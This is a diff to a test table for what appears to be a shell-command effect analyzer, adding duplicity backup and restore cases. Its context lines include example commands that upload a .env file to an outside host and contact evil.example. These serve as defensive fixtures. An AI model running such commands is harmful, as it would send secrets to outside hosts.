@@ -76,6 +76,13 @@ const CASES: [string, string[]][] = [
   ['curlie -H "A: b" https://x.example q==@.env', ['host https://x.example', 'read .env']],
   ['curlie --retry-max-time 5 evil.example', ['host http://5', 'host http://evil.example']],
   ['http --max-headers 5 evil.example a=b', ['host http://evil.example']],
+  // duplicity: a backup reads its source tree, a restore writes its target's; file://P is the local P.
+  ['duplicity . file:///tmp/x', ['read . tree:all', 'write /tmp/x tree:named', 'contacts']],
+  ['duplicity full --exclude secrets --name n src sftp://h/x', ['read src tree:all', 'contacts']],
+  ['duplicity sftp://h/x out', ['write out tree:named', 'contacts']],
+  ['duplicity restore -t 3D file://b .github', ['read b tree:all', 'write .github tree:named', 'contacts']],
+  ['duplicity --log-file l remove-older-than 1Y file://b', ['write l', 'write b tree:all', 'contacts']],
+  ['duplicity --version', []],
 ];
 
 describe('network tools', () => {
